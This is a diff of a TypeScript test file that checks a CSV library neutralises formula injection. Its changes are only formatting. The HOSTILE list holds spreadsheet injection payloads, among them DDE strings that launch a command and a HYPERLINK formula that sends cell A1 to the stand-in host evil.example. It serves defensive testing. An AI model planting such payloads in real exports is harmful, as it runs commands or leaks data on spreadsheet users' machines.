@@ -10,10 +10,10 @@ import { csvCell, csvLine, formatCsv, isFormulaLike } from '../../../lib/core/cs
 /** Strings that Excel, LibreOffice or Google Sheets evaluate when they open a CSV. */
 export const HOSTILE = [
   '=HYPERLINK("http://evil.example/?x="&A1,"click")',
-  '=cmd|\' /C calc\'!A0',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
-  '+1+cmd|\' /C calc\'!A0',
-  '-2+3+cmd|\' /C calc\'!A0',
+  "=cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "+1+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
   '-HYPERLINK("http://evil.example")',
   '\t=1+1',
   '\r=1+1',
@@ -73,6 +73,14 @@ describe('csvCell: formula neutralisation', () => {
 
   it('lines end in CRLF; a table is header plus rows', () => {
     expect(csvLine(['a', -1, null, '=x'])).toBe("a,-1,,'=x\r\n");
-    expect(formatCsv(['h1', 'h2'], [[1, '@x'], ['-0.5', '-x']])).toBe("h1,h2\r\n1,'@x\r\n-0.5,'-x\r\n");
+    expect(
+      formatCsv(
+        ['h1', 'h2'],
+        [
+          [1, '@x'],
+          ['-0.5', '-x'],
+        ],
+      ),
+    ).toBe("h1,h2\r\n1,'@x\r\n-0.5,'-x\r\n");
   });
 });
